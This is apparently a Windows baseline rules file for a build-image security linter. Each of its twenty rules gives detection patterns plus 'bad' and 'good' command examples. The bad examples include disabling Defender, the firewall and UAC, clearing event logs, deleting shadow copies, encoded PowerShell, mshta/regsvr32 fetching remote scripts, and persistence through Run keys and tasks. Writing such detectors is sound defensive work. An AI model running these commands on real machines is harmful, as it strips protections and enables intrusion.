# Windows: what has no like elsewhere. What has one (downloads, verification, accounts, the
# firewall, services) the other files judge by the same facts.
pack "baseline" {}

rule "WIN001" {
  title    = "Defender is switched off"
  severity = "high"
  on       = "write"
  when = ((write.by == "setting" && matches(write.path, "^defender/(disable(realtimemonitoring|behaviormonitoring|ioavprotection|scriptscanning|blockatfirstseen|intrusionpreventionsystem|archivescanning|antispyware|antivirus))$") && !one_of(write.content, "False", "0")) ||
    (write.by == "setting" && one_of(write.path, "defender/mapsreporting", "defender/submitsamplesconsent", "defender/puaprotection") && one_of(write.content, "0", "2", "Disabled", "NeverSend")) ||
    (write.by == "registry" && matches(write.path, "\\\\windows defender\\\\(.*\\\\)?disable(antispyware|antivirus|realtimemonitoring|behaviormonitoring|ioavprotection|onaccessprotection|scanonrealtimeenable)$") && one_of(write.content, "1", "0x1", "0x00000001")))
  message = "${command} takes away what scans the machine"
  why     = "malware runs unseen on every machine of the image"
  fix     = "leave it on; where scans slow the build, exclude one directory and take the exclusion back at the end"
  refs    = ["CWE-693", "ATT&CK T1685"]
  bad = [
    "#!pwsh\nSet-MpPreference -DisableRealtimeMonitoring $true",
    "#!pwsh\n$p = @{ DisableRealtimeMonitoring = $true; DisableBehaviorMonitoring = 1 }\nSet-MpPreference @p",
    "#!cmd\nreg add \"HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\" /v DisableAntiSpyware /t REG_DWORD /d 1 /f",
  ]
  good = [
    "#!pwsh\nSet-MpPreference -DisableRealtimeMonitoring $false",
    "#!pwsh\nUpdate-MpSignature",
  ]
}

rule "WIN002" {
  title    = "Defender is told to look away"
  severity = "medium"
  on       = "write"
  when     = write.by == "setting" && matches(write.path, "^defender/exclusion(path|process|extension|ipaddress)$")
  message  = "${command}: what lies there is not scanned on any machine of the image"
  why      = "exclusions are where malware is put"
  fix      = "take the exclusion back at the end of the build"
  refs     = ["CWE-693", "ATT&CK T1685"]
  bad      = ["#!pwsh\nAdd-MpPreference -ExclusionPath 'C:\\build'"]
  good     = ["#!pwsh\nGet-MpPreference", "#!pwsh\nSet-MpPreference -ScanScheduleDay 0"]
}

rule "WIN003" {
  title    = "encoded command for PowerShell"
  severity = "high"
  on       = "exec"
  when     = one_of(exec.name, "powershell", "pwsh", "powershell.exe", "pwsh.exe") && any_arg(exec, "^[-/][eE]([cC]|[nN][cC]?|[nN][cC][oO][a-zA-Z]*)?$")
  message  = "${exec.name} runs code that nobody can read where it stands"
  why      = "nothing is encoded but what somebody does not want to be read; what the code does is audited all the same"
  fix      = "write the code where it runs, or in a file of the repository"
  refs     = ["CWE-506", "ATT&CK T1027.010", "ATT&CK T1059.001"]
  bad      = ["#!cmd\npowershell -NoProfile -EncodedCommand dwByAGkAdABlAC0AaABvAHMAdAAgAGgAaQA=", "#!pwsh\npwsh -e dwByAGkAdABlAC0AaABvAHMAdAAgAGgAaQA="]
  good     = ["#!cmd\npowershell -NoProfile -ExecutionPolicy Bypass -File setup.ps1", "#!pwsh\npowershell -Command Get-Date"]
}

rule "WIN004" {
  title    = "password of the automatic logon in the registry"
  severity = "critical"
  on       = "write"
  when     = write.by == "registry" && matches(write.path, "\\\\winlogon\\\\defaultpassword$") && write.content != null && write.content != "" && write.final
  message  = "${command}: whoever starts the image reads the password, and is logged on"
  why      = "a published password opens every machine that is started from the image"
  fix      = "remove the value, and AutoAdminLogon with it, at the end of the build"
  refs     = ["CWE-798", "CWE-256", "ATT&CK T1552.002"]
  bad      = ["#!cmd\nreg add \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\" /v DefaultPassword /d vagrant /f", "#!pwsh\n$k = 'HKLM:\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon'\nSet-ItemProperty -Path $k -Name DefaultPassword -Value 'vagrant'"]
  good     = ["#!pwsh\nRemove-ItemProperty -Path 'HKLM:\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon' -Name DefaultPassword", "#!cmd\nreg add \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\" /v AutoAdminLogon /d 0 /f"]
}

rule "WIN005" {
  title    = "remote control without encryption, or with passwords in clear"
  severity = "high"
  on       = "write"
  when     = write.by == "setting" && matches(write.path, "^wsman/.*/(allowunencrypted|basic|credssp)$") && one_of(write.content, "true", "True", "1", "$true") && write.final
  message  = "${command}: WinRM of every machine takes what anybody on the way reads"
  why      = "credentials of administrators cross the network in clear"
  fix      = "use HTTPS and Negotiate, or set it back at the end of the build"
  refs     = ["CWE-319", "CWE-523", "ATT&CK T1021.006"]
  bad      = ["#!cmd\nwinrm set winrm/config/service @{AllowUnencrypted=\"true\"}", "#!pwsh\nSet-Item WSMan:\\localhost\\Service\\Auth\\Basic -Value $true", "#!cmd\ncall winrm set winrm/config/service/auth @{Basic=\"true\"}"]
  good     = ["#!pwsh\nSet-Item WSMan:\\localhost\\Service\\AllowUnencrypted -Value $false", "#!cmd\nwinrm set winrm/config/winrs @{MaxMemoryPerShellMB=\"2048\"}"]
}

rule "WIN006" {
  title    = "user account control is switched off"
  severity = "high"
  on       = "write"
  when     = write.by == "registry" && matches(write.path, "\\\\policies\\\\system\\\\(enablelua|consentpromptbehavioradmin|promptonsecuredesktop)$") && one_of(write.content, "0", "0x0", "0x00000000")
  message  = "${command}: programs become administrator without a question"
  why      = "what runs in a user's session owns the machine"
  fix      = "leave it on; builds run elevated without it"
  refs     = ["CWE-250", "ATT&CK T1548.002"]
  bad      = ["#!cmd\nreg add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System /v EnableLUA /t REG_DWORD /d 0 /f", "#!pwsh\nNew-ItemProperty -Path HKLM:Software\\Microsoft\\Windows\\CurrentVersion\\policies\\system -Name EnableLUA -PropertyType DWord -Value 0 -Force"]
  good     = ["#!cmd\nreg add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System /v EnableLUA /t REG_DWORD /d 1 /f"]
}

rule "WIN007" {
  title    = "program is started at every logon"
  severity = "medium"
  on       = "write"
  when     = write.by == "registry" && matches(write.path, "\\\\(currentversion|policies\\\\explorer)\\\\run(once)?\\\\|\\\\winlogon\\\\(userinit|shell)$|\\\\image file execution options\\\\.*\\\\debugger$|\\\\appinit_dlls$") && write.final
  message  = "${write.path} runs by itself on every machine of this image"
  why      = "a program that nobody declared is the plainest way to stay on a machine"
  fix      = "declare it to the reviewer with a waiver, or install a service with the product"
  refs     = ["ATT&CK T1547.001", "ATT&CK T1546.012"]
  bad      = ["#!pwsh\nSet-ItemProperty -Path 'HKLM:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run' -Name upd -Value 'C:\\u.exe'", "#!cmd\nreg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce /v x /d C:\\x.cmd /f"]
  good     = ["#!pwsh\nRemove-ItemProperty -Path 'HKLM:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run' -Name OneDriveSetup"]
}

rule "WIN008" {
  title    = "new scheduled task or service"
  severity = "medium"
  on       = "write"
  when     = one_of(write.by, "task", "service")
  message  = "${write.path} runs by itself on every machine of this image"
  why      = "a job that nobody declared is the plainest way to stay on a machine"
  fix      = "declare it to the reviewer with a waiver, or install it with the product's package"
  refs     = ["ATT&CK T1053.005", "ATT&CK T1543.003"]
  bad      = ["#!cmd\nschtasks /create /tn upd /tr C:\\u.cmd /sc onstart /ru SYSTEM", "#!pwsh\n$a = New-ScheduledTaskAction -Execute powershell.exe -Argument '-File C:\\u.ps1'\nRegister-ScheduledTask -TaskName upd -Action $a -Trigger (New-ScheduledTaskTrigger -AtStartup)", "#!cmd\nsc create upd binPath= C:\\u.exe start= auto"]
  good     = ["#!cmd\nschtasks /delete /tn upd /f", "#!cmd\nsc query upd", "#!pwsh\nGet-ScheduledTask | Disable-ScheduledTask"]
}

rule "WIN009" {
  title    = "scripts run whoever wrote them"
  severity = "low"
  on       = "write"
  when     = write.by == "setting" && write.path == "powershell/executionpolicy" && matches(write.content, "^([bB]ypass|BYPASS|[uU]nrestricted|UNRESTRICTED)$")
  message  = "${command}: unsigned scripts from anywhere run on every machine of the image"
  why      = "a script that a user downloads runs without a question"
  fix      = "give -Scope Process, or set RemoteSigned"
  refs     = ["CWE-347", "ATT&CK T1059.001"]
  bad      = ["#!pwsh\nSet-ExecutionPolicy Unrestricted -Force", "#!pwsh\nSet-ExecutionPolicy -ExecutionPolicy Bypass -Scope LocalMachine"]
  good     = ["#!pwsh\nSet-ExecutionPolicy Bypass -Scope Process -Force", "#!pwsh\nSet-ExecutionPolicy RemoteSigned"]
}

rule "WIN010" {
  title    = "event logs are cleared or switched off"
  severity = "medium"
  on       = "exec"
  when = ((exec.name == "wevtutil" && any_arg(exec, "^([cC][lL]|[cC][lL][eE][aA][rR]-[lL][oO][gG])$|^/[eE]:false$")) || one_of(exec.name, "Clear-EventLog", "Remove-EventLog") ||
    (exec.name == "auditpol" && any_arg(exec, "^/(clear|remove)$", ":disable$")) || (exec.name == "Clear-History") || (exec.name == "Set-PSReadLineOption" && has_arg(exec, "SaveNothing")))
  message = "${command} takes away the traces of what ran"
  why     = "a reviewer of the running image sees nothing of what the build did"
  fix     = "let sysprep do it, as the last command of the build"
  refs    = ["CWE-778", "ATT&CK T1685.005", "ATT&CK T1690"]
  bad     = ["#!cmd\nwevtutil cl Security", "#!pwsh\nClear-EventLog -LogName Application, System", "#!cmd\nfor %%l in (System Security) do wevtutil.exe clear-log %%l"]
  good    = ["#!cmd\nwevtutil qe System /c:10", "#!pwsh\nGet-EventLog -LogName System -Newest 5"]
}

rule "WIN011" {
  title    = "copies that could bring files back are removed"
  severity = "high"
  on       = "exec"
  when = ((exec.name == "vssadmin" && has_arg(exec, "delete") && has_arg(exec, "shadows")) || (exec.name == "wmic" && has_arg(exec, "shadowcopy") && has_arg(exec, "delete")) ||
    (exec.name == "bcdedit" && any_arg(exec, "^(recoveryenabled|bootstatuspolicy|testsigning|nointegritychecks)$") && any_arg(exec, "^([nN][oO]|[oO][fF][fF]|[oO][nN]|[iI]gnoreallfailures)$") && !(has_arg(exec, "testsigning", "nointegritychecks") && has_arg(exec, "off"))))
  message = "${command} takes recovery, or the check of drivers, away"
  why     = "this is what ransomware does first, and how unsigned drivers are loaded"
  fix     = "leave boot settings and shadow copies alone"
  refs    = ["CWE-693", "ATT&CK T1490", "ATT&CK T1553.006"]
  bad     = ["#!cmd\nvssadmin delete shadows /all /quiet", "#!cmd\nbcdedit /set {current} recoveryenabled No", "#!cmd\nbcdedit /set testsigning on"]
  good    = ["#!cmd\nbcdedit /set {current} timeout 5", "#!cmd\nvssadmin list shadows"]
}

rule "WIN012" {
  title    = "certificates are not checked by this process"
  severity = "high"
  on       = "env"
  when     = env.name == "ServerCertificateValidationCallback"
  message  = "${command}: downloads from here on come from whoever answers"
  why      = "who is on the way decides what arrives"
  fix      = "trust the server's certificate authority instead"
  refs     = ["CWE-295", "ATT&CK T1557"]
  bad      = ["#!pwsh\n[System.Net.ServicePointManager]::ServerCertificateValidationCallback = { $true }\nInvoke-WebRequest https://dl.example.org/a.zip -OutFile a.zip"]
  good     = ["#!pwsh\n[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12", "#!pwsh\n[Net.ServicePointManager]::ServerCertificateValidationCallback = $null"]
}

rule "WIN013" {
  title    = "program of the system runs code from an address"
  severity = "high"
  on       = "exec"
  when     = one_of(exec.name, "mshta", "regsvr32", "rundll32", "cscript", "wscript", "installutil", "msbuild") && any_arg(exec, "[hH][tT][tT][pP][sS]?://", "^(javascript|vbscript):")
  message  = "${exec.name} fetches code and runs it: ${command}"
  why      = "a signed program of Windows hides where the code comes from"
  fix      = "download to a file, check it against a digest kept in this repository, then run it"
  refs     = ["CWE-494", "ATT&CK T1218"]
  bad      = ["#!cmd\nmshta http://x.example.org/a.hta", "#!cmd\nregsvr32 /s /n /u /i:https://x.example.org/a.sct scrobj.dll"]
  good     = ["#!cmd\nregsvr32 /s C:\\app\\codec.dll", "#!cmd\ncscript //nologo slmgr.vbs /dli"]
}

rule "WIN014" {
  title    = "Windows Update is switched off"
  severity = "medium"
  on       = "write"
  when     = write.by == "registry" && ((matches(write.path, "\\\\windowsupdate\\\\au\\\\(noautoupdate)$") && one_of(write.content, "1", "0x1")) || (matches(write.path, "\\\\windowsupdate\\\\au\\\\auoptions$") && one_of(write.content, "1", "0x1")) || (matches(write.path, "\\\\windowsupdate\\\\disablewindowsupdateaccess$") && one_of(write.content, "1", "0x1"))) && write.final
  message  = "${write.path} no longer brings security updates"
  why      = "machines of people who do not update by hand stay open"
  fix      = "set it back at the end of the build"
  refs     = ["CWE-1104", "ATT&CK T1685"]
  bad      = ["#!cmd\nreg add HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\WindowsUpdate\\AU /v NoAutoUpdate /t REG_DWORD /d 1 /f"]
  good     = ["#!cmd\nreg add HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\WindowsUpdate\\AU /v NoAutoUpdate /t REG_DWORD /d 0 /f"]
}

rule "WIN015" {
  title    = "protecting service of Windows is switched off"
  severity = "high"
  on       = "service"
  when     = one_of(service.action, "disable", "stop") && one_of(service.name, "windefend", "wdnissvc", "sense", "mpssvc", "wscsvc", "securityhealthservice", "wuauserv", "eventlog", "sysmon", "sysmon64") && service.action == "disable"
  message  = "${service.tool} takes ${service.name} out of service"
  why      = "scanner, firewall, updates or log are missing on every machine of the image"
  fix      = "stop it for the build where that is needed, and leave its start as it is"
  refs     = ["CWE-693", "ATT&CK T1685"]
  bad      = ["#!pwsh\nSet-Service -Name WinDefend -StartupType Disabled", "#!cmd\nsc config wuauserv start= disabled", "#!pwsh\nSet-ItemProperty -Path HKLM:\\SYSTEM\\CurrentControlSet\\Services\\mpssvc -Name Start -Value 4"]
  good     = ["#!pwsh\nStop-Service wuauserv", "#!cmd\nsc config wuauserv start= auto", "#!pwsh\nSet-Service -Name Spooler -StartupType Disabled"]
}

rule "WIN016" {
  title    = "user becomes an administrator of Windows"
  severity = "medium"
  on       = "account"
  when     = one_of(account.action, "create", "modify") && anytrue([for g in account.groups : one_of(lower(g), "administrators", "administratoren", "administrateurs", "domain admins", "remote desktop users")])
  message  = "${account.name} joins ${join(", ", account.groups)}"
  why      = "whoever knows the account's password owns every machine of the image"
  fix      = "remove the account at the end of the build"
  refs     = ["CWE-250", "ATT&CK T1098", "ATT&CK T1136.001"]
  bad      = ["#!cmd\nnet localgroup administrators bob /add", "#!pwsh\nAdd-LocalGroupMember -Group Administrators -Member bob", "#!pwsh\nAdd-LocalGroupMember -SID S-1-5-32-544 -Member bob"]
  good     = ["#!cmd\nnet localgroup administrators", "#!pwsh\nAdd-LocalGroupMember -Group 'Performance Log Users' -Member bob"]
}

rule "WIN017" {
  title    = "firewall of Windows is switched off"
  severity = "high"
  on       = "firewall"
  when     = one_of(firewall.tool, "netsh", "Set-NetFirewallProfile", "reg", "Set-ItemProperty", "New-ItemProperty") && (firewall.action == "disable" || (firewall.action == "policy" && firewall.target == "accept"))
  message  = "${command} opens the machine to the network"
  why      = "services that were meant for the machine alone become public"
  fix      = "allow the ports that the product needs, and nothing else"
  refs     = ["CWE-693", "ATT&CK T1686"]
  bad      = ["#!cmd\nnetsh advfirewall set allprofiles state off", "#!pwsh\nSet-NetFirewallProfile -Profile Domain,Public,Private -Enabled False", "#!cmd\nnetsh firewall set opmode mode=disable"]
  good     = ["#!cmd\nnetsh advfirewall firewall add rule name=web dir=in action=allow protocol=TCP localport=443", "#!pwsh\nSet-NetFirewallProfile -All -Enabled True"]
}

rule "WIN018" {
  title    = "package without a version"
  severity = "low"
  on       = "package"
  when     = one_of(package.manager, "choco", "winget", "scoop", "nuget", "psgallery") && package.action == "install" && !package.pinned && length(package.names) > 0
  message  = "${join(", ", package.names)} installed in whatever version the gallery has"
  why      = "a rebuild of the same commit gives another image, and nobody has reviewed that one"
  fix      = "name the version (--version, -RequiredVersion)"
  refs     = ["CWE-1357", "CWE-1104"]
  bad      = ["#!cmd\nchoco install -y git", "#!pwsh\nInstall-Module Pester -Force"]
  good     = ["#!cmd\nchoco install git --version=2.44.0 -y", "#!pwsh\nInstall-Module -Name Pester -RequiredVersion 5.5.0"]
}

rule "WIN019" {
  title    = "packages are not checked"
  severity = "high"
  on       = "package"
  when     = (package.manager == "choco" && anytrue([for f in package.flags : one_of(lower(f), "--ignore-checksums", "--ignorechecksums", "--ignore-checksum", "--allow-empty-checksums", "--allowemptychecksums")])) || (package.manager == "winget" && anytrue([for f in package.flags : one_of(lower(f), "--ignore-security-hash", "--force-hash")])) || (one_of(package.manager, "choco", "winget", "scoop", "nuget", "psgallery") && package.action == "repository" && package.url != null && matches(package.url, "^http://"))
  message  = "${command} takes whatever arrives"
  why      = "the digest of the package's author no longer counts"
  fix      = "leave the option out"
  refs     = ["CWE-354", "CWE-494", "ATT&CK T1195.002"]
  bad      = ["#!cmd\nchoco install -y tool --version 1.0 --ignore-checksums", "#!pwsh\nRegister-PSRepository -Name own -SourceLocation http://repo.example.org/nuget"]
  good     = ["#!cmd\nchoco install -y tool --version 1.0", "#!pwsh\nRegister-PSRepository -Name own -SourceLocation https://repo.example.org/nuget", "zypper ar http://repo.example.org/oss/ oss"]
}

rule "WIN020" {
  title    = "certificate authority is added to Windows"
  severity = "medium"
  on       = "write"
  when     = write.by == "setting" && matches(write.path, "^certificates/(.*[\\\\/:])?(root|trustedpublisher|authroot)$")
  message  = "${command}: certificates of that authority are trusted on every machine of the image"
  why      = "whoever holds its key can be any server, or sign any driver"
  fix      = "ship the certificate with the product that needs it"
  refs     = ["CWE-295", "ATT&CK T1553.004"]
  bad      = ["#!cmd\ncertutil -addstore -f Root own-ca.cer", "#!pwsh\nImport-Certificate -FilePath own-ca.cer -CertStoreLocation Cert:\\LocalMachine\\Root"]
  good     = ["#!cmd\ncertutil -hashfile own-ca.cer SHA256", "#!pwsh\nImport-Certificate -FilePath own.cer -CertStoreLocation Cert:\\LocalMachine\\My"]
}
